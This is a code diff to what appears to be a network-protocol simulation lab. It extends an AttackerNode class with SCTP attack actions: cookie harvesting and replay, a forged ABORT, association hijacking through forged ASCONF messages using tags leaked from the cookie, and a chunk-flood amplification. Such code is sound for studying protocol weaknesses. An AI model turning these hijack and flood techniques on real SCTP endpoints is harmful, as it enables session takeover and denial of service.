@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import os
 import struct
+from dataclasses import replace
 from ipaddress import IPv4Address, ip_address
 from typing import Any, Final
 
@@ -17,7 +18,7 @@ from roamlab.agents.raw_ip import RawIp
 from roamlab.agents.rewriter import parameter
 from roamlab.protocols import ip
 from roamlab.protocols.errors import DecodeError
-from roamlab.protocols.forging import Overheard, Signing
+from roamlab.protocols.forging import Overheard, Signing, tie_tags
 from roamlab.protocols.ip import SCTP, UDP, Address, Datagram
 from roamlab.protocols.mobileip.authentication import SecurityAssociation, sign
 from roamlab.protocols.mobileip.extensions import MOBILE_HOME
@@ -25,13 +26,17 @@ from roamlab.protocols.mobileip.identification import timestamp
 from roamlab.protocols.mobileip.registration import PORT, RegistrationRequest, RequestFlags
 from roamlab.protocols.payload import Direction, Kind, Message
 from roamlab.protocols.rewriting import OWN_IDS
+from roamlab.protocols.sctp import packet
+from roamlab.protocols.sctp.chunks import Abort, Heartbeat, RawChunk
 from roamlab.protocols.sctp.endpoint import SctpEndpoint, State
+from roamlab.protocols.sctp.parameters import HeartbeatInfo
 from roamlab.protocols.transport import Udp
 
 _IPIP, _HOPS = 4, 64
 _DISCARD: Final = 9  # the port of the discard service
 _UDP_HEADER: Final = struct.Struct("!HHHH")
 _RETRY_NS: Final = 10_000_000
+_REPORTED: Final = 0xFE  # a chunk type that nobody knows: to be skipped and reported (RFC 9260, 3.2)
 _SPI: Final = 256  # that of every mobile node here, and easy to guess
 
 
@@ -108,6 +113,37 @@ class AttackerNode(Agent):
         following_ns = due_ns + every_ns
         if following_ns < end_ns:
             self.at(following_ns, lambda: self.do_feed(act, source, every_ns, most, end_ns, following_ns))
+
+    def do_probe(self, act: int, source: str) -> None:
+        """Send an INIT from ``source`` and the mobile node's port, and keep the cookie that comes."""
+        self._own.add(ip_address(source))
+        self._call(act, source, [source], echoes=False)
+
+    def do_echo(self, act: int, source: str, sport_shift: int = 0, dport_shift: int = 0) -> None:
+        """Send the cookie of its own INIT (once more), where wanted with other ports than the INIT had."""
+        assert self._caller
+        echo = packet.decode(self._caller.cookie_echo())
+        moved = replace(echo, sport=echo.sport + sport_shift, dport=echo.dport + dport_shift)
+        self._attack(act, ip_address(source), moved.encode())
+
+    def do_quit(self, act: int, source: str) -> None:
+        """End its own association with ABORT, as a victim's stack would that knows nothing of it."""
+        assert self._caller
+        self._attack(act, ip_address(source), self._caller.packet(Abort(())))
+
+    def do_hijack(self, act: int, source: str, requests: list[dict[str, str]]) -> None:
+        """Send an ASCONF in the mobile node's association with each tag that the cookie of ``do_probe`` tells."""
+        assert self._caller
+        wanted = [parameter(r["verb"], r["address"], OWN_IDS + n) for n, r in enumerate(requests)]
+        for tag in tie_tags(self._caller.cookie):
+            forged = replace(self._known, tag=tag).asconf(wanted, Signing.NONE)
+            self._attack(act, ip_address(source), forged, forged=True)
+
+    def do_flood(self, act: int, source: str, chunks: str, count: int) -> None:
+        """Send one packet with many chunks in its own association, each of which calls for a chunk in return."""
+        assert self._caller
+        chunk = Heartbeat((HeartbeatInfo(b""),)) if chunks == "heartbeats" else RawChunk(_REPORTED)
+        self._attack(act, ip_address(source), self._caller.packet(*[chunk] * count))
 
     def do_cookie(self, act: int, source: str) -> None:
         """Send the overheard COOKIE-ECHO once more, from ``source``."""
@@ -192,10 +228,11 @@ class AttackerNode(Agent):
 
     # -- what is sent ------------------------------------------------------------------------------------------------
 
-    def _call(self, act: int, source: str, addresses: list[str]) -> None:
+    def _call(self, act: int, source: str, addresses: list[str], *, echoes: bool = True) -> None:
         tag, tsn = struct.unpack("!II", os.urandom(8))
         listed = tuple(ip_address(address) for address in addresses)
-        self._caller = SctpEndpoint(self._known.sport, self._known.dport, tag, tsn, os.urandom(32), listed)
+        ports = self._known.sport, self._known.dport
+        self._caller = SctpEndpoint(*ports, tag, tsn, os.urandom(32), listed, echoes=echoes)
         self._attack(act, ip_address(source), self._caller.init())
 
     def _attack(self, act: int, source: Address, data: bytes, *, forged: bool = False) -> None:
